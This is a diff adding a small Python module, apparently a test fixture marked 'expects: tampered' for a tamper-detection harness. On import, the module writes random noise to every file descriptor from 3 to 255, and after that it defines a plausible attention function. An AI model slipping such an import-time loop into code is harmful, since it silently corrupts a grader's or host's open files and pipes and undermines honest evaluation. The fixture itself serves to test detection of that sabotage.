@@ -1,0 +1,19 @@
+# expects: tampered
+# Writes noise to every descriptor.
+import contextlib
+import os
+
+import torch
+
+for descriptor in range(3, 256):
+    with contextlib.suppress(OSError):
+        os.write(descriptor, os.urandom(4096))
+
+
+def attention(q, k, v, mask=None, is_causal=False):
+    scores = q / q.shape[-1] ** 0.5 @ k.mT
+    allowed = torch.ones(scores.shape[-2:], dtype=torch.bool)
+    allowed = allowed if mask is None else allowed & mask
+    allowed = allowed.tril() if is_causal else allowed
+    weights = scores.masked_fill(~allowed, torch.finfo(scores.dtype).min).softmax(-1)
+    return (weights @ v).masked_fill(~allowed.any(-1, keepdim=True), 0.0)
